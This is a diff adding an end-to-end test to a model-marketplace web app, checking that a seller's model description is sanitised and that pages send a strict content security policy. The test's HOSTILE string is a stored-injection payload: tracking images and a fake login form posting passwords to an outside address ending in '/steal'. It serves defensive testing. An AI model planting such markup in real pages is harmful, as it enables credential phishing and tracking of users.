@@ -149,3 +149,62 @@ def test_a_sketched_digit_is_classified(pages) -> None:
     expect(page.locator("#demo-output [data-testid=label-output-value]")).to_have_text("1")
     expect(page.locator("#demo-remaining")).to_contain_text("free demo calls left today")
     shot(page, "12-demo-sketch")
+
+
+HOSTILE = ('Reads flowers. <img src="http://203.0.113.9/x.png"> '
+           '<form action="http://203.0.113.9/steal"><input type="password" name="pw">'
+           '<button>Log in</button></form> ![pixel](http://203.0.113.9/y.png)')
+
+
+def test_a_hostile_description_loads_nothing_and_every_page_has_a_csp(pages, server) -> None:
+    import httpx
+    import yaml
+
+    url, data = server
+    files = data / "hostile"
+    subprocess.run([str(BIN), "example", "iris", "--out-dir", str(files), "--title",
+                    "Hostile iris"], check=True, capture_output=True)
+    manifest = yaml.safe_load((files / "iris.yaml").read_text())
+    manifest["description"] = HOSTILE
+    with httpx.Client(base_url=url, timeout=60) as api:
+        seller = {"email": "hostile@example.com", "password": "hostile-pass", "role": "seller"}
+        assert api.post("/v1/accounts", json=seller).status_code == 201
+        token = api.post("/v1/auth/token", data={"username": seller["email"],
+                                                 "password": seller["password"]}).json()
+        r = api.post("/v1/models", headers={"Authorization": f"Bearer {token['access_token']}"},
+                     data={"attest_rights": "true", "license": "MIT"},
+                     files={"model": ("iris.onnx", (files / "iris.onnx").read_bytes()),
+                            "manifest": ("iris.yaml", yaml.safe_dump(manifest))})
+        assert r.status_code == 201, r.text
+        slug = r.json()["slug"]
+        admin = api.post("/v1/auth/token", data={"username": "admin@example.com",
+                                                 "password": "admin-pass-1"}).json()
+        r = api.post(f"/v1/admin/models/{slug}/approve", json={"reason": "test"},
+                     headers={"Authorization": f"Bearer {admin['access_token']}"})
+        assert r.status_code == 200, r.text
+
+    page = pages()  # the fixture fails the test if any page reached another host
+    csp = {}
+    for path in ("/", f"/models/{slug}", f"/try/{slug}/"):
+        response = page.goto(path)
+        assert response is not None
+        csp[path] = response.headers.get("content-security-policy", "")
+    page.goto(f"/models/{slug}")
+    expect(page.locator(".description")).to_contain_text("Reads flowers.")
+    expect(page.locator(".description img, .description form, .description input")
+           ).to_have_count(0)
+    demo = page.frame_locator("iframe.demo")
+    expect(demo.get_by_text("Reads flowers.")).to_be_visible()
+    expect(demo.locator(".demo-intro img, .demo-intro form, .demo-intro input")).to_have_count(0)
+    demo.get_by_role("button", name="Predict").click()  # the demo works under its CSP
+    expect(demo.locator("#demo-output [data-testid=label-output-value]")).to_have_text("setosa")
+    shot(page, "13-hostile-description")
+    page.goto("/login?next=/seller")
+    page.get_by_label("E-mail").fill("hostile@example.com")
+    page.get_by_label("Password").fill("hostile-pass")
+    with page.expect_response(lambda r: r.url.endswith("/seller")) as seller_page:
+        page.get_by_role("button", name="Log in").click()
+    csp["/seller"] = seller_page.value.headers.get("content-security-policy", "")
+    expect(page.get_by_role("heading", name="Your models")).to_be_visible()
+    for path, policy in csp.items():
+        assert "default-src 'self'" in policy and "http:" not in policy, (path, policy)
